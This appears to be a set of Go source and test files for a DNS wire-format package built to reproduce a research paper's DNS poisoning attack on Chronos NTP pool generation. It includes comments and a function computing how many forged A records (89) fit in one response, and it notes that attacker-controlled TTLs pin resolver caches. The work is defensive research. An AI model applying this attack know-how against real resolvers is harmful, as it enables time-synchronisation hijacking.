	f.Add([]byte{0, 1, 0x80, 0, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF})

	f.Fuzz(func(t *testing.T, data []byte) {
		msg, err := Decode(data)
		if err != nil {
			return
		}
		// Whatever decoded must re-encode (or be rejected cleanly — a
		// decoded name can contain bytes our encoder refuses, e.g. a '.'
		// inside a wire label) and, if re-encoded, re-decode.
		b, err := msg.Encode()
		if err != nil {
			return
		}
		m2, err := Decode(b)
		if err != nil {
			t.Fatalf("re-decode of re-encoded message failed: %v", err)
		}
		if len(m2.Answers) != len(msg.Answers) ||
			len(m2.Authority) != len(msg.Authority) ||
			len(m2.Additional) != len(msg.Additional) ||
			len(m2.Questions) != len(msg.Questions) {
			t.Fatalf("section counts changed across round trip: %+v vs %+v", msg, m2)
		}
	})
}
