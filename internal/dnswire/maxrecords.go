package dnswire

// ARecordWireSize is the wire cost of one A record in a response whose
// owner name is compressed to a 2-byte pointer at the question:
// 2 (pointer) + 2 (type) + 2 (class) + 4 (ttl) + 2 (rdlength) + 4 (rdata).
const ARecordWireSize = 16

// MaxARecords returns the largest number of A records answering qname that
// fit in a single DNS/UDP response of at most payload bytes, assuming name
// compression (every answer's owner name is a pointer to the question) and
// an OPT record when edns is true.
//
// For qname "pool.ntp.org", payload 1472 (Ethernet without fragmentation)
// and EDNS0, this yields 89 — the figure the paper cites for the forged
// pool response ("up to 89 for a single non-fragmented DNS response").
// Without EDNS0 the classic 512-byte limit admits only 30.
func MaxARecords(qname string, payload int, edns bool) (int, error) {
	nameLen, err := EncodedNameLen(qname)
	if err != nil {
		return 0, err
	}
	fixed := 12 + nameLen + 4 // header + question
	if edns {
		fixed += 11 // root name (1) + type (2) + class (2) + ttl (4) + rdlength (2)
	}
	room := payload - fixed
	if room < 0 {
		return 0, nil
	}
	return room / ARecordWireSize, nil
}

// BenignPoolResponseRecords is how many A records pool.ntp.org returns per
// query (the paper: "each DNS response contains 4 NTP servers as in the
// case of pool.ntp.org").
const BenignPoolResponseRecords = 4
