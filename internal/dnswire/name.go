package dnswire

import (
	"errors"
	"fmt"
	"strings"
	"sync"
)

// Name-encoding errors.
var (
	ErrNameTooLong  = errors.New("dnswire: name exceeds 255 octets")
	ErrLabelTooLong = errors.New("dnswire: label exceeds 63 octets")
	ErrEmptyLabel   = errors.New("dnswire: empty label")
	ErrBadPointer   = errors.New("dnswire: bad compression pointer")
	ErrNameLoop     = errors.New("dnswire: compression pointer loop")
)

// maxNameWire is the maximum encoded length of a domain name (RFC 1035 §3.1).
const maxNameWire = 255

// NormalizeName lower-cases a domain name and strips a trailing dot,
// yielding the canonical form used throughout this package ("" is the
// root). A name already in canonical form is returned unchanged without
// allocating — the common case on the parse and cache hot paths, where
// every name has already passed through normalization once.
func NormalizeName(name string) string {
	if len(name) > 0 && name[len(name)-1] == '.' {
		name = name[:len(name)-1]
	}
	for i := 0; i < len(name); i++ {
		if c := name[i]; 'A' <= c && c <= 'Z' {
			return strings.ToLower(name)
		}
	}
	return name
}

// InZone reports whether name equals zone or is a subdomain of it
// (both in canonical form). The resolver's bailiwick check uses this.
func InZone(name, zone string) bool {
	name, zone = NormalizeName(name), NormalizeName(zone)
	if zone == "" {
		return true
	}
	if name == zone {
		return true
	}
	return strings.HasSuffix(name, "."+zone)
}

// splitLabels splits a canonical name into labels, validating lengths.
func splitLabels(name string) ([]string, error) {
	name = NormalizeName(name)
	if name == "" {
		return nil, nil
	}
	labels := strings.Split(name, ".")
	total := 1 // root byte
	for _, l := range labels {
		if l == "" {
			return nil, fmt.Errorf("%w in %q", ErrEmptyLabel, name)
		}
		if len(l) > 63 {
			return nil, fmt.Errorf("%w: %q", ErrLabelTooLong, l)
		}
		total += 1 + len(l)
	}
	if total > maxNameWire {
		return nil, fmt.Errorf("%w: %q", ErrNameTooLong, name)
	}
	return labels, nil
}

// EncodedNameLen returns the wire length of name encoded without
// compression.
func EncodedNameLen(name string) (int, error) {
	labels, err := splitLabels(name)
	if err != nil {
		return 0, err
	}
	n := 1
	for _, l := range labels {
		n += 1 + len(l)
	}
	return n, nil
}

// compressor tracks name suffixes already emitted so later names can point
// at them (RFC 1035 §4.1.4). A nil compressor disables compression.
type compressor struct {
	offsets map[string]int
}

func newCompressor() *compressor {
	return &compressor{offsets: make(map[string]int)}
}

// appendName encodes name at the current end of buf, using c for
// compression when non-nil. It walks the canonical name by byte offset —
// every suffix of a canonical name is a substring, so label iteration and
// the compressor's suffix keys need no per-name slice or join allocations.
func appendName(buf []byte, name string, c *compressor) ([]byte, error) {
	name = NormalizeName(name)
	if name == "" {
		return append(buf, 0), nil
	}
	// Validate with the same checks (and error forms) splitLabels applies.
	total := 1 // root byte
	start := 0
	for i := 0; i <= len(name); i++ {
		if i < len(name) && name[i] != '.' {
			continue
		}
		l := i - start
		if l == 0 {
			return nil, fmt.Errorf("%w in %q", ErrEmptyLabel, name)
		}
		if l > 63 {
			return nil, fmt.Errorf("%w: %q", ErrLabelTooLong, name[start:i])
		}
		total += 1 + l
		start = i + 1
	}
	if total > maxNameWire {
		return nil, fmt.Errorf("%w: %q", ErrNameTooLong, name)
	}
	pos := 0
	for pos < len(name) {
		end := pos
		for end < len(name) && name[end] != '.' {
			end++
		}
		if c != nil {
			suffix := name[pos:]
			if off, ok := c.offsets[suffix]; ok && off <= 0x3FFF {
				return append(buf, byte(0xC0|off>>8), byte(off)), nil
			}
			if len(buf) <= 0x3FFF {
				c.offsets[suffix] = len(buf)
			}
		}
		buf = append(buf, byte(end-pos))
		buf = append(buf, name[pos:end]...)
		pos = end + 1
	}
	return append(buf, 0), nil
}

// internName returns a canonical shared string for the name bytes in b.
// A simulation decodes the same few dozen names tens of millions of
// times; interning makes each decode allocation-free after first sight
// and dedups the strings that RRsets retain in caches and pools. The
// table is capped so a hostile stream of unique names cannot grow it
// without bound — past the cap, names simply allocate as before.
var (
	internMu  sync.RWMutex
	internTab = make(map[string]string, 256)
)

func internName(b []byte) string {
	internMu.RLock()
	s, ok := internTab[string(b)] // non-allocating lookup
	internMu.RUnlock()
	if ok {
		return s
	}
	s = string(b)
	internMu.Lock()
	if len(internTab) < 4096 {
		internTab[s] = s
	}
	internMu.Unlock()
	return s
}

// readName decodes a (possibly compressed) name starting at off in msg.
// It returns the canonical name and the offset just past the name in the
// original (non-pointer) stream.
func readName(msg []byte, off int) (string, int, error) {
	// Any legal name fits in 255 octets of wire, so its canonical form
	// fits this stack buffer; the lowercased bytes are then interned
	// rather than copied into a fresh heap string.
	var nb [maxNameWire]byte
	n := 0
	jumped := false
	after := off
	hops := 0
	for {
		if off < 0 || off >= len(msg) {
			return "", 0, ErrBadPointer
		}
		b := msg[off]
		switch {
		case b == 0:
			if !jumped {
				after = off + 1
			}
			return internName(nb[:n]), after, nil
		case b&0xC0 == 0xC0:
			if off+1 >= len(msg) {
				return "", 0, ErrBadPointer
			}
			ptr := int(b&0x3F)<<8 | int(msg[off+1])
			if !jumped {
				after = off + 2
			}
			jumped = true
			hops++
			if hops > 64 || ptr >= off {
				return "", 0, ErrNameLoop
			}
			off = ptr
		case b&0xC0 != 0:
			return "", 0, fmt.Errorf("dnswire: reserved label type %#x", b&0xC0)
		default:
			l := int(b)
			if off+1+l > len(msg) {
				return "", 0, ErrBadPointer
			}
			sep := 0
			if n > 0 {
				sep = 1
			}
			if n+sep+l > maxNameWire {
				return "", 0, ErrNameTooLong
			}
			if sep == 1 {
				nb[n] = '.'
				n++
			}
			for _, ch := range msg[off+1 : off+1+l] {
				if 'A' <= ch && ch <= 'Z' {
					ch += 'a' - 'A'
				}
				nb[n] = ch
				n++
			}
			off += 1 + l
			if !jumped {
				after = off
			}
		}
	}
}
