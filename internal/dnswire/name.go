package dnswire

import (
	"errors"
	"fmt"
	"strings"
)

// Name-encoding errors.
var (
	ErrNameTooLong  = errors.New("dnswire: name exceeds 255 octets")
	ErrLabelTooLong = errors.New("dnswire: label exceeds 63 octets")
	ErrEmptyLabel   = errors.New("dnswire: empty label")
	ErrBadPointer   = errors.New("dnswire: bad compression pointer")
	ErrNameLoop     = errors.New("dnswire: compression pointer loop")
)

// maxNameWire is the maximum encoded length of a domain name (RFC 1035 §3.1).
const maxNameWire = 255

// NormalizeName lower-cases a domain name and strips a trailing dot,
// yielding the canonical form used throughout this package ("" is the
// root).
func NormalizeName(name string) string {
	name = strings.ToLower(strings.TrimSuffix(name, "."))
	return name
}

// InZone reports whether name equals zone or is a subdomain of it
// (both in canonical form). The resolver's bailiwick check uses this.
func InZone(name, zone string) bool {
	name, zone = NormalizeName(name), NormalizeName(zone)
	if zone == "" {
		return true
	}
	if name == zone {
		return true
	}
	return strings.HasSuffix(name, "."+zone)
}

// splitLabels splits a canonical name into labels, validating lengths.
func splitLabels(name string) ([]string, error) {
	name = NormalizeName(name)
	if name == "" {
		return nil, nil
	}
	labels := strings.Split(name, ".")
	total := 1 // root byte
	for _, l := range labels {
		if l == "" {
			return nil, fmt.Errorf("%w in %q", ErrEmptyLabel, name)
		}
		if len(l) > 63 {
			return nil, fmt.Errorf("%w: %q", ErrLabelTooLong, l)
		}
		total += 1 + len(l)
	}
	if total > maxNameWire {
		return nil, fmt.Errorf("%w: %q", ErrNameTooLong, name)
	}
	return labels, nil
}

// EncodedNameLen returns the wire length of name encoded without
// compression.
func EncodedNameLen(name string) (int, error) {
	labels, err := splitLabels(name)
	if err != nil {
		return 0, err
	}
	n := 1
	for _, l := range labels {
		n += 1 + len(l)
	}
	return n, nil
}

// compressor tracks name suffixes already emitted so later names can point
// at them (RFC 1035 §4.1.4). A nil compressor disables compression.
type compressor struct {
	offsets map[string]int
}

func newCompressor() *compressor {
	return &compressor{offsets: make(map[string]int)}
}

// appendName encodes name at the current end of buf, using c for
// compression when non-nil.
func appendName(buf []byte, name string, c *compressor) ([]byte, error) {
	labels, err := splitLabels(name)
	if err != nil {
		return nil, err
	}
	for i := range labels {
		suffix := strings.Join(labels[i:], ".")
		if c != nil {
			if off, ok := c.offsets[suffix]; ok && off <= 0x3FFF {
				return append(buf, byte(0xC0|off>>8), byte(off)), nil
			}
			if len(buf) <= 0x3FFF {
				c.offsets[suffix] = len(buf)
			}
		}
		buf = append(buf, byte(len(labels[i])))
		buf = append(buf, labels[i]...)
	}
	return append(buf, 0), nil
}

// readName decodes a (possibly compressed) name starting at off in msg.
// It returns the canonical name and the offset just past the name in the
// original (non-pointer) stream.
func readName(msg []byte, off int) (string, int, error) {
	var sb strings.Builder
	jumped := false
	after := off
	hops := 0
	for {
		if off < 0 || off >= len(msg) {
			return "", 0, ErrBadPointer
		}
		b := msg[off]
		switch {
		case b == 0:
			if !jumped {
				after = off + 1
			}
			return sb.String(), after, nil
		case b&0xC0 == 0xC0:
			if off+1 >= len(msg) {
				return "", 0, ErrBadPointer
			}
			ptr := int(b&0x3F)<<8 | int(msg[off+1])
			if !jumped {
				after = off + 2
			}
			jumped = true
			hops++
			if hops > 64 || ptr >= off {
				return "", 0, ErrNameLoop
			}
			off = ptr
		case b&0xC0 != 0:
			return "", 0, fmt.Errorf("dnswire: reserved label type %#x", b&0xC0)
		default:
			l := int(b)
			if off+1+l > len(msg) {
				return "", 0, ErrBadPointer
			}
			if sb.Len() > 0 {
				sb.WriteByte('.')
			}
			sb.Write(toLowerASCII(msg[off+1 : off+1+l]))
			if sb.Len() > maxNameWire {
				return "", 0, ErrNameTooLong
			}
			off += 1 + l
			if !jumped {
				after = off
			}
		}
	}
}

func toLowerASCII(b []byte) []byte {
	out := make([]byte, len(b))
	for i, c := range b {
		if 'A' <= c && c <= 'Z' {
			c += 'a' - 'A'
		}
		out[i] = c
	}
	return out
}
