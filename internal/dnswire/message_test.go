package dnswire

import (
	"math/rand"
	"reflect"
	"strings"
	"testing"
	"testing/quick"
)

func TestNormalizeName(t *testing.T) {
	tests := []struct{ in, want string }{
		{"Pool.NTP.org.", "pool.ntp.org"},
		{"pool.ntp.org", "pool.ntp.org"},
		{".", ""},
		{"", ""},
	}
	for _, tt := range tests {
		if got := NormalizeName(tt.in); got != tt.want {
			t.Errorf("NormalizeName(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestInZone(t *testing.T) {
	tests := []struct {
		name, zone string
		want       bool
	}{
		{"pool.ntp.org", "ntp.org", true},
		{"pool.ntp.org", "pool.ntp.org", true},
		{"ntp.org", "pool.ntp.org", false},
		{"evilntp.org", "ntp.org", false}, // suffix without dot boundary
		{"anything.example", "", true},    // root zone contains everything
	}
	for _, tt := range tests {
		if got := InZone(tt.name, tt.zone); got != tt.want {
			t.Errorf("InZone(%q, %q) = %v, want %v", tt.name, tt.zone, got, tt.want)
		}
	}
}

func TestEncodedNameLen(t *testing.T) {
	tests := []struct {
		name string
		want int
	}{
		{"", 1},              // root
		{"org", 5},           // 1+3 +1
		{"ntp.org", 9},       // 1+3 +1+3 +1
		{"pool.ntp.org", 14}, // 1+4 +1+3 +1+3 +1
	}
	for _, tt := range tests {
		got, err := EncodedNameLen(tt.name)
		if err != nil {
			t.Fatalf("%q: %v", tt.name, err)
		}
		if got != tt.want {
			t.Errorf("EncodedNameLen(%q) = %d, want %d", tt.name, got, tt.want)
		}
	}
	if _, err := EncodedNameLen(strings.Repeat("a", 64) + ".org"); err == nil {
		t.Error("expected ErrLabelTooLong")
	}
	long := strings.Repeat("abcdefgh.", 40) + "org"
	if _, err := EncodedNameLen(long); err == nil {
		t.Error("expected ErrNameTooLong")
	}
	if _, err := EncodedNameLen("a..b"); err == nil {
		t.Error("expected ErrEmptyLabel")
	}
}

func sampleMessage() *Message {
	m := NewQuery(0x1234, "pool.ntp.org", TypeA)
	r := m.Reply()
	r.Authoritative = true
	r.RecursionAvailable = true
	r.Answers = []RR{
		ARecord("pool.ntp.org", 150, [4]byte{192, 0, 2, 1}),
		ARecord("pool.ntp.org", 150, [4]byte{192, 0, 2, 2}),
		CNAMERecord("alias.pool.ntp.org", 300, "pool.ntp.org"),
	}
	r.Authority = []RR{
		NSRecord("ntp.org", 3600, "ns1.ntp.org"),
		{Name: "ntp.org", Type: TypeSOA, Class: ClassIN, TTL: 3600, SOA: &SOAData{
			MName: "ns1.ntp.org", RName: "hostmaster.ntp.org",
			Serial: 2020060100, Refresh: 7200, Retry: 900, Expire: 1209600, Minimum: 300,
		}},
	}
	r.Additional = []RR{
		ARecord("ns1.ntp.org", 3600, [4]byte{198, 51, 100, 53}),
		TXTRecord("info.ntp.org", 60, "hello", "world"),
	}
	r.SetEDNS(4096)
	return r
}

func TestRoundTrip(t *testing.T) {
	m := sampleMessage()
	b, err := m.Encode()
	if err != nil {
		t.Fatal(err)
	}
	got, err := Decode(b)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(m, got) {
		t.Errorf("round trip mismatch:\n got %+v\nwant %+v", got, m)
	}
}

func TestRoundTripNoCompression(t *testing.T) {
	m := sampleMessage()
	b, err := m.EncodeNoCompress()
	if err != nil {
		t.Fatal(err)
	}
	got, err := Decode(b)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(m, got) {
		t.Error("uncompressed round trip mismatch")
	}
	compressed, _ := m.Encode()
	if len(compressed) >= len(b) {
		t.Errorf("compression did not shrink message: %d >= %d", len(compressed), len(b))
	}
}

func TestHeaderFlagsRoundTrip(t *testing.T) {
	m := &Message{
		ID: 7, Response: true, Opcode: 2, Authoritative: true, Truncated: true,
		RecursionDesired: true, RecursionAvailable: true, RCode: RCodeNXDomain,
	}
	b, err := m.Encode()
	if err != nil {
		t.Fatal(err)
	}
	got, err := Decode(b)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(m, got) {
		t.Errorf("flags mismatch: %+v vs %+v", got, m)
	}
}

func TestDecodeErrors(t *testing.T) {
	if _, err := Decode([]byte{1, 2, 3}); err == nil {
		t.Error("short message accepted")
	}
	m := sampleMessage()
	b, _ := m.Encode()
	if _, err := Decode(b[:len(b)-3]); err == nil {
		t.Error("truncated message accepted")
	}
	// Claimed question count with no body.
	hdr := make([]byte, 12)
	hdr[5] = 1
	if _, err := Decode(hdr); err == nil {
		t.Error("missing question accepted")
	}
}

func TestDecodeToleratesTrailingBytes(t *testing.T) {
	// The defragmentation attack pads spoofed response tails with
	// checksum-compensation bytes after the last counted record; parsers
	// must (and ours does) ignore them.
	m := sampleMessage()
	b, _ := m.Encode()
	b = append(b, 0xDE, 0xAD)
	got, err := Decode(b)
	if err != nil {
		t.Fatalf("trailing bytes rejected: %v", err)
	}
	if !reflect.DeepEqual(m, got) {
		t.Error("message with trailing bytes decoded differently")
	}
}

func TestCompressionPointerLoopRejected(t *testing.T) {
	// Craft a message whose qname is a pointer to itself.
	b := make([]byte, 16)
	b[5] = 1     // QDCOUNT=1
	b[12] = 0xC0 // pointer ...
	b[13] = 12   // ... to itself
	if _, err := Decode(b); err == nil {
		t.Error("self-pointer accepted")
	}
}

func TestReservedLabelTypeRejected(t *testing.T) {
	b := make([]byte, 18)
	b[5] = 1
	b[12] = 0x80 // reserved label type
	if _, err := Decode(b); err == nil {
		t.Error("reserved label type accepted")
	}
}

func TestCaseInsensitiveDecode(t *testing.T) {
	m := NewQuery(1, "POOL.NTP.ORG", TypeA)
	b, err := m.Encode()
	if err != nil {
		t.Fatal(err)
	}
	got, err := Decode(b)
	if err != nil {
		t.Fatal(err)
	}
	if got.Questions[0].Name != "pool.ntp.org" {
		t.Errorf("decoded qname %q", got.Questions[0].Name)
	}
}

func TestEDNS(t *testing.T) {
	m := NewQuery(1, "pool.ntp.org", TypeA)
	if _, ok := m.EDNSSize(); ok {
		t.Error("EDNS present on fresh query")
	}
	if m.MaxPayload() != ClassicMaxUDP {
		t.Errorf("MaxPayload = %d, want 512", m.MaxPayload())
	}
	m.SetEDNS(1472)
	if sz, ok := m.EDNSSize(); !ok || sz != 1472 {
		t.Errorf("EDNSSize = %d, %v", sz, ok)
	}
	if m.MaxPayload() != 1472 {
		t.Errorf("MaxPayload = %d, want 1472", m.MaxPayload())
	}
	m.SetEDNS(400) // below the classic floor
	if m.MaxPayload() != ClassicMaxUDP {
		t.Errorf("MaxPayload = %d, want floored 512", m.MaxPayload())
	}
	// SetEDNS updates in place rather than duplicating.
	count := 0
	for _, rr := range m.Additional {
		if rr.Type == TypeOPT {
			count++
		}
	}
	if count != 1 {
		t.Errorf("OPT records = %d, want 1", count)
	}
}

func TestReplyMirrorsQuery(t *testing.T) {
	q := NewQuery(42, "pool.ntp.org", TypeA)
	r := q.Reply()
	if !r.Response || r.ID != 42 || !r.RecursionDesired {
		t.Errorf("bad reply skeleton: %+v", r)
	}
	if len(r.Questions) != 1 || r.Questions[0] != q.Questions[0] {
		t.Error("reply does not mirror question")
	}
}

func TestTXTChunkTooLong(t *testing.T) {
	m := &Message{Answers: []RR{TXTRecord("a.example", 60, strings.Repeat("x", 256))}}
	if _, err := m.Encode(); err == nil {
		t.Error("oversized TXT chunk accepted")
	}
}

func TestSOANilRejected(t *testing.T) {
	m := &Message{Answers: []RR{{Name: "a.example", Type: TypeSOA, Class: ClassIN}}}
	if _, err := m.Encode(); err == nil {
		t.Error("nil SOA accepted")
	}
}

func TestUnknownTypeRoundTripsRaw(t *testing.T) {
	m := &Message{Answers: []RR{{
		Name: "a.example", Type: Type(99), Class: ClassIN, TTL: 5, Raw: []byte{1, 2, 3, 4, 5},
	}}}
	b, err := m.Encode()
	if err != nil {
		t.Fatal(err)
	}
	got, err := Decode(b)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(m, got) {
		t.Error("raw rdata round trip mismatch")
	}
}

func TestTypeString(t *testing.T) {
	for _, tt := range []struct {
		typ  Type
		want string
	}{
		{TypeA, "A"}, {TypeNS, "NS"}, {TypeCNAME, "CNAME"}, {TypeSOA, "SOA"},
		{TypePTR, "PTR"}, {TypeMX, "MX"}, {TypeTXT, "TXT"}, {TypeAAAA, "AAAA"},
		{TypeOPT, "OPT"}, {Type(250), "TYPE250"},
	} {
		if got := tt.typ.String(); got != tt.want {
			t.Errorf("%d.String() = %q, want %q", tt.typ, got, tt.want)
		}
	}
}

func TestMaxARecordsReproducesPaperFigures(t *testing.T) {
	// §IV: "up to 89 for a single non-fragmented DNS response".
	got, err := MaxARecords("pool.ntp.org", EthernetMaxPayload, true)
	if err != nil {
		t.Fatal(err)
	}
	if got != 89 {
		t.Errorf("MaxARecords(pool.ntp.org, 1472, edns) = %d, want 89", got)
	}
	// Classic 512-byte responses hold far fewer.
	classic, err := MaxARecords("pool.ntp.org", ClassicMaxUDP, false)
	if err != nil {
		t.Fatal(err)
	}
	if classic != 30 {
		t.Errorf("MaxARecords(512, no edns) = %d, want 30", classic)
	}
	// The geographic pool names clients actually query behave the same.
	got2, err := MaxARecords("2.pool.ntp.org", EthernetMaxPayload, true)
	if err != nil {
		t.Fatal(err)
	}
	if got2 != 89 {
		t.Errorf("MaxARecords(2.pool.ntp.org) = %d, want 89", got2)
	}
}

func TestMaxARecordsMatchesRealEncoding(t *testing.T) {
	// The closed-form count must agree with actually encoding a message.
	for _, payload := range []int{512, 1232, 1472, 4096} {
		for _, edns := range []bool{false, true} {
			k, err := MaxARecords("pool.ntp.org", payload, edns)
			if err != nil {
				t.Fatal(err)
			}
			build := func(count int) int {
				q := NewQuery(1, "pool.ntp.org", TypeA)
				r := q.Reply()
				for i := 0; i < count; i++ {
					r.Answers = append(r.Answers, ARecord("pool.ntp.org", 86400*7,
						[4]byte{203, 0, byte(i >> 8), byte(i)}))
				}
				if edns {
					r.SetEDNS(uint16(payload))
				}
				b, err := r.Encode()
				if err != nil {
					t.Fatal(err)
				}
				return len(b)
			}
			if got := build(k); got > payload {
				t.Errorf("payload=%d edns=%v: %d records encode to %d bytes", payload, edns, k, got)
			}
			if got := build(k + 1); got <= payload {
				t.Errorf("payload=%d edns=%v: %d+1 records still fit (%d bytes)", payload, edns, k, got)
			}
		}
	}
}

func TestMaxARecordsTinyPayload(t *testing.T) {
	got, err := MaxARecords("pool.ntp.org", 10, false)
	if err != nil {
		t.Fatal(err)
	}
	if got != 0 {
		t.Errorf("tiny payload should hold 0 records, got %d", got)
	}
	if _, err := MaxARecords("bad..name", 512, false); err == nil {
		t.Error("invalid qname accepted")
	}
}

// randomName produces a valid random domain name from the quick fuzzer seed.
func randomName(rng *rand.Rand) string {
	labels := 1 + rng.Intn(4)
	parts := make([]string, labels)
	for i := range parts {
		l := 1 + rng.Intn(12)
		b := make([]byte, l)
		for j := range b {
			b[j] = byte('a' + rng.Intn(26))
		}
		parts[i] = string(b)
	}
	return strings.Join(parts, ".")
}

// Property: encode→decode is the identity on structurally valid messages.
func TestRoundTripProperty(t *testing.T) {
	f := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		m := &Message{
			ID:               uint16(rng.Intn(1 << 16)),
			Response:         rng.Intn(2) == 0,
			Authoritative:    rng.Intn(2) == 0,
			RecursionDesired: rng.Intn(2) == 0,
			RCode:            RCode(rng.Intn(6)),
		}
		m.Questions = append(m.Questions, Question{
			Name: randomName(rng), Type: TypeA, Class: ClassIN,
		})
		for i, n := 0, rng.Intn(20); i < n; i++ {
			switch rng.Intn(4) {
			case 0:
				m.Answers = append(m.Answers, ARecord(randomName(rng), rng.Uint32(),
					[4]byte{byte(rng.Intn(256)), byte(rng.Intn(256)), byte(rng.Intn(256)), byte(rng.Intn(256))}))
			case 1:
				m.Answers = append(m.Answers, CNAMERecord(randomName(rng), rng.Uint32(), randomName(rng)))
			case 2:
				m.Answers = append(m.Answers, NSRecord(randomName(rng), rng.Uint32(), randomName(rng)))
			default:
				m.Answers = append(m.Answers, TXTRecord(randomName(rng), rng.Uint32(), randomName(rng)))
			}
		}
		b, err := m.Encode()
		if err != nil {
			return false
		}
		got, err := Decode(b)
		if err != nil {
			return false
		}
		return reflect.DeepEqual(m, got)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 250}); err != nil {
		t.Error(err)
	}
}

// Property: the decoder never panics on arbitrary input bytes.
func TestDecodeNeverPanicsProperty(t *testing.T) {
	f := func(b []byte) bool {
		defer func() {
			if r := recover(); r != nil {
				t.Errorf("Decode panicked on %x: %v", b, r)
			}
		}()
		_, _ = Decode(b)
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}

// Property: compressed encoding is never larger than uncompressed.
func TestCompressionNeverGrowsProperty(t *testing.T) {
	f := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		name := randomName(rng)
		m := NewQuery(1, name, TypeA)
		r := m.Reply()
		for i, n := 0, 1+rng.Intn(30); i < n; i++ {
			r.Answers = append(r.Answers, ARecord(name, 60, [4]byte{1, 2, 3, byte(i)}))
		}
		c, err1 := r.Encode()
		u, err2 := r.EncodeNoCompress()
		if err1 != nil || err2 != nil {
			return false
		}
		return len(c) <= len(u)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}
