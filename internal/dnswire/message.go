// Package dnswire implements the subset of the DNS wire format (RFC 1035,
// with EDNS0 per RFC 6891) that the Chronos pool-generation attack
// exercises: questions and A/NS/CNAME/PTR/TXT/SOA/OPT records, name
// compression, and truncation.
//
// Two properties of the format are load-bearing for the paper:
//
//   - Name compression makes A records in a response cost only 16 bytes
//     each, so a single non-fragmented 1472-byte EDNS0 response carries up
//     to 89 forged NTP-server addresses (MaxARecords reproduces the
//     computation);
//   - the record TTL is attacker-controlled, letting one poisoned response
//     pin a resolver cache across all 24 of Chronos' hourly pool queries.
package dnswire

import (
	"encoding/binary"
	"errors"
	"fmt"
)

// Type is a DNS RR type.
type Type uint16

// Record types used by the reproduction.
const (
	TypeA     Type = 1
	TypeNS    Type = 2
	TypeCNAME Type = 5
	TypeSOA   Type = 6
	TypePTR   Type = 12
	TypeMX    Type = 15
	TypeTXT   Type = 16
	TypeAAAA  Type = 28
	TypeOPT   Type = 41
)

// String implements fmt.Stringer.
func (t Type) String() string {
	switch t {
	case TypeA:
		return "A"
	case TypeNS:
		return "NS"
	case TypeCNAME:
		return "CNAME"
	case TypeSOA:
		return "SOA"
	case TypePTR:
		return "PTR"
	case TypeMX:
		return "MX"
	case TypeTXT:
		return "TXT"
	case TypeAAAA:
		return "AAAA"
	case TypeOPT:
		return "OPT"
	default:
		return fmt.Sprintf("TYPE%d", uint16(t))
	}
}

// Class is a DNS class; only IN is used.
type Class uint16

// ClassIN is the Internet class.
const ClassIN Class = 1

// RCode is a DNS response code.
type RCode uint8

// Response codes.
const (
	RCodeNoError  RCode = 0
	RCodeFormErr  RCode = 1
	RCodeServFail RCode = 2
	RCodeNXDomain RCode = 3
	RCodeNotImp   RCode = 4
	RCodeRefused  RCode = 5
)

// Decode errors.
var (
	ErrShortMessage = errors.New("dnswire: message truncated")
	ErrBadRData     = errors.New("dnswire: bad rdata")
	ErrTooBig       = errors.New("dnswire: message exceeds 65535 bytes")
)

// ClassicMaxUDP is the pre-EDNS0 maximum DNS/UDP payload (RFC 1035).
const ClassicMaxUDP = 512

// EthernetMaxPayload is the largest UDP payload that fits a 1500-byte
// Ethernet MTU without IP fragmentation: 1500 − 20 (IP) − 8 (UDP).
const EthernetMaxPayload = 1472

// Question is a DNS question.
type Question struct {
	Name  string
	Type  Type
	Class Class
}

// SOAData is the RDATA of an SOA record.
type SOAData struct {
	MName   string
	RName   string
	Serial  uint32
	Refresh uint32
	Retry   uint32
	Expire  uint32
	Minimum uint32
}

// RR is a resource record. Exactly one RDATA field is meaningful,
// according to Type: A for TypeA, Target for NS/CNAME/PTR, TXT for
// TypeTXT, SOA for TypeSOA, and Raw for anything else (round-tripped
// opaquely). For TypeOPT (EDNS0), Class carries the advertised UDP payload
// size per RFC 6891.
type RR struct {
	Name  string
	Type  Type
	Class Class
	TTL   uint32

	A      [4]byte
	Target string
	TXT    []string
	SOA    *SOAData
	Raw    []byte
}

// ARecord builds an address record.
func ARecord(name string, ttl uint32, ip [4]byte) RR {
	return RR{Name: NormalizeName(name), Type: TypeA, Class: ClassIN, TTL: ttl, A: ip}
}

// NSRecord builds a delegation record.
func NSRecord(name string, ttl uint32, target string) RR {
	return RR{Name: NormalizeName(name), Type: TypeNS, Class: ClassIN, TTL: ttl, Target: NormalizeName(target)}
}

// CNAMERecord builds an alias record.
func CNAMERecord(name string, ttl uint32, target string) RR {
	return RR{Name: NormalizeName(name), Type: TypeCNAME, Class: ClassIN, TTL: ttl, Target: NormalizeName(target)}
}

// TXTRecord builds a text record.
func TXTRecord(name string, ttl uint32, chunks ...string) RR {
	return RR{Name: NormalizeName(name), Type: TypeTXT, Class: ClassIN, TTL: ttl, TXT: chunks}
}

// OPTRecord builds an EDNS0 pseudo-record advertising udpSize.
func OPTRecord(udpSize uint16) RR {
	return RR{Name: "", Type: TypeOPT, Class: Class(udpSize)}
}

// Message is a DNS message.
type Message struct {
	ID                 uint16
	Response           bool
	Opcode             uint8
	Authoritative      bool
	Truncated          bool
	RecursionDesired   bool
	RecursionAvailable bool
	RCode              RCode

	Questions  []Question
	Answers    []RR
	Authority  []RR
	Additional []RR
}

// NewQuery builds a recursion-desired query for (name, type).
func NewQuery(id uint16, name string, qtype Type) *Message {
	return &Message{
		ID:               id,
		RecursionDesired: true,
		Questions:        []Question{{Name: NormalizeName(name), Type: qtype, Class: ClassIN}},
	}
}

// Reply builds a response skeleton mirroring the query's ID, question and
// RD flag.
func (m *Message) Reply() *Message {
	r := &Message{
		ID:               m.ID,
		Response:         true,
		RecursionDesired: m.RecursionDesired,
	}
	r.Questions = append(r.Questions, m.Questions...)
	return r
}

// EDNSSize returns the EDNS0 advertised UDP payload size if the message
// carries an OPT record.
func (m *Message) EDNSSize() (uint16, bool) {
	for _, rr := range m.Additional {
